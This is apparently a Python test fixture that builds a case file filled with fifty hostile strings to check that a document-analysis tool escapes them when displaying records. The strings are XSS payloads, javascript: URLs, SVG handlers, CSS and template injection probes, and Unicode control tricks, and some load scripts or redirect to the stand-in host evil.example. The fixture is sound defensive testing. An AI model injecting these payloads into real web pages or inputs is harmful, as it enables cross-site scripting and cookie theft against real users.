"""Fifty hostile texts, and a case that is full of them. Each must be shown as the text that it is, wherever it comes from."""

from dataclasses import replace
from pathlib import Path
from typing import Any

from dragoman.records.document import Block, Document, Origin, Publisher
from dragoman.records.findings import Claim, Event, Explanation, Findings, Forecast, Mention, Purpose, Quote, Stop, Visit
from dragoman.records.harvest import Harvest
from dragoman.records.problem import Problem
from dragoman.records.puzzle import Evidence, Hypothesis, Puzzle, Rating
from dragoman.records.spans import Actor, DateRange, Ref, Span
from dragoman.records.verdict import Verdict, VerdictRow
from dragoman.store.case import Case
from dragoman.store.rows import About, By

NOW = By(author="ann", now="2021-05-01T10:00:00Z")


SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "{{ 7 * 7 }}{% raw %}{{ config }}{% endraw %}",
    "${alert(1)}#{alert(1)}",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java\tscript:alert(1)">x</a>',
    "javascript:alert(document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "` onclick=alert(1) x=`",
    "<form action=//evil.example><button>Accept</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
)
SVGS = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
)
STYLES = (
    "<style>*{display:none}</style>",
    '<p style="position:fixed;inset:0;background:red">x</p>',
    "</style><script>alert(1)</script>",
    "red;}body{display:none",
)
CONTROLS = (
    "\u202egnp.exe txet",
    "\u2066hidden\u2069 \u2067order\u2069",
    "one\u2028two\u2029three",
    "nul\x01bell\x07esc\x1b[31mred",
    "\ufeffzero\u200bwidth\u200djoiner",
    "Z" + "\u0300\u0301\u0302\u0303\u0489" * 60 + "algo",
    "\U0001f6a2\U0001f1f0\U0001f1ff 𝔲𝔫𝔦 ﷽",
    "A" * 600,
)
PAYLOADS = (*SCRIPTS, *HANDLERS, *SVGS, *STYLES, *CONTROLS)
assert len(PAYLOADS) == 50


def make_hostile(number: int, payload: str) -> Harvest:
    """A document in which every text field is the payload, with a finding of each kind."""
    text = f"{payload}\n\nBefore {payload} after, said {payload} twice."
    start = text.index("Before")
    document = Document(
        id=f"p{number}", source=payload, title=payload, published="2021-04-20", publisher=Publisher(name=payload, standing=payload),
        author=payload, url=payload if number % 2 else f"https://example.org/?q={payload}", language=payload[:8], text=text,
        blocks=(Block(kind="title", start=0, end=len(payload)), Block(kind="paragraph", start=start, end=len(text))),
        origin=Origin(of=payload, method="line", reason=payload),
    )  # fmt: skip
    problem = Problem(source=payload, document=document.id, severity="warning", code="odd", message=payload, stage="clean")
    return Harvest(document=document, findings=make_all(document, payload, Span(start=start, end=len(text))), problems=(problem,))


def make_all(document: Document, words: str, span: Span) -> Findings:
    base: dict[str, Any] = {"document": document.id, "spans": (span,), "text": words, "maker": words, "confidence": 0.5}
    ref = Ref(start=span.start, end=span.start + 6, entity=f"doc:{words}", name=words)
    actor = Actor(start=span.start, end=span.start + 6, entity=None, name=words, sector=words)
    day = DateRange(start="2021-05-01", end="2021-05-03", text=words)
    verdict = Verdict(
        label="partly", basis=words, as_of="2021-04-20", note=words, rows=(VerdictRow(table=words, row=words, source=words, agrees=False),)
    )
    visit = Visit(
        **base, id="v1", visitor=ref, role=words, status="planned", stops=(Stop(place=replace(ref, name=words), country=None, date=day),),
        purposes=(Purpose(text=words, span=span, by=ref),),
    )  # fmt: skip
    forecast = Forecast(
        **base, id="f1", proposition=span, forecaster=ref, phrase=words, p=(0.5, 0.8), scale=words, due=day, resolver=words
    )  # fmt: skip
    return Findings(
        mentions=(
            Mention(
                **base, id="m1", type="person", start=span.start, end=span.start + 6, entity=f"doc:{words}", name=words, as_of_role=words
            ),
        ),
        quotes=(Quote(**base, id="q1", form="direct", source=ref, cue=None, content=(span,), role=words, affiliation=words, venue=words),),
        events=(Event(**base, id="e1", type="CONSULT", mode=words, actors=(actor,), place=ref, date=day),),
        visits=(visit,),
        claims=(Claim(**base, id="c1", type="office", subject=ref, predicate=words, object=ref, value=words, unit=words, verdict=verdict),),
        forecasts=(forecast,),
        explanations=(Explanation(**base, id="x1", of="v1", reason=words, proponent=ref, stance="for", marker=words, theme=words),),
    )


def fill_hostile_case(path: Path) -> None:
    """Make a case in which every payload stands in every field."""
    with Case.create(path, NOW) as case:
        for number, payload in enumerate(PAYLOADS):
            case.add(make_hostile(number, payload), By(author=payload[:60], now=NOW.now))
            case.write_note(payload, NOW, about=About(document=f"p{number}", finding="q1"))
            case.reject(f"p{number}", "e1", By(author="ann", now=NOW.now, note=payload))
            case.correct(f"p{number}", "q1", {"role": payload + "!"}, By(author="ann", now=NOW.now, note=payload))
        items = tuple(Evidence(id=f"e{i}", text=p, origin=p, speaker=p) for i, p in enumerate(PAYLOADS))
        answers = (Hypothesis(id="h1", text=PAYLOADS[0]), Hypothesis(id="h2", text=PAYLOADS[11]))
        rating = Rating(evidence="e0", hypothesis="h1", value="C", rater=PAYLOADS[1], date="2021-05-01", reason=PAYLOADS[2])
        case.save_puzzle("hostile", Puzzle(question=PAYLOADS[12], hypotheses=answers, evidence=items, ratings=(rating,)), NOW)
